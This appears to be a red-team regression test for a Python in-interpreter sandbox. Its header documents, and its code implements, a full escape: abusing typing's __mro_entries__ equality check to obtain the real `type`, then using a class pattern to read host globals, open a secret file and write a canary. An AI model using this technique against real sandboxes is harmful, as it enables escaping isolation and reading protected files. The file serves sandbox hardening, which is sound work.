# mypy: ignore-errors
# Technique: typing's `__mro_entries__` tests `self.__origin__ not in bases`, comparing the
# alias's origin with every base of the class statement: for `class C(typing.Type[int], obj)`
# that handed `obj.__eq__` typing.Type's origin, the real `type`. Its three-argument call
# built an ABC admitting any subject with `__match_args__ = ("__globals__",)`, and a class
# pattern read a host function's globals (the real builtins). Found in the tenth red-team
# pass of the in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the
# fix (in the worker, `typing.Type`'s origin is the sandbox's `type`).
import typing

from suaveplan import fs

U = "_" * 2
seen = []


class Eq:
    def __eq__(self, other):
        seen.append(other)
        return False

    def __hash__(self):
        return 0

    def __mro_entries__(self, bases):
        return ()


def attack(secret_path, canary_path):
    try:

        class C(typing.Type[int], Eq()):  # noqa: UP006 - the alias is the technique
            pass

    except Exception:
        pass
    hook = classmethod(lambda cls, c: True)
    namespace = {U + "match_args" + U: (U + "globals" + U,), U + "subclasshook" + U: hook}
    refused = []
    for candidate in seen:
        try:
            any_ = candidate("Any", (typing.get_origin(typing.Hashable),), namespace)
        except Exception as exc:
            refused.append(repr(exc)[:120])
            continue
        match fs.read_text:
            case any_(g):
                b = g["_b"]
                print("SANDBOX-" + "ESCAPED")
                out = [b.open(secret_path).read()]
                b.open(canary_path, "w").write("x")
                return out
    return refused
